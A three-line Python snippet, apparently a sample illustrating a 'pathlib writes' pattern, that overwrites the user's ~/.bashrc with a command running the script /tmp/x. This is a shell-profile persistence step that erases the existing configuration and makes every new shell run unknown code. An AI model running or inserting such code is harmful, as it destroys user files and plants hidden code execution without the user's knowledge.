# why: pathlib writes
from pathlib import Path
Path("/home/user/.bashrc").write_text("sh /tmp/x")
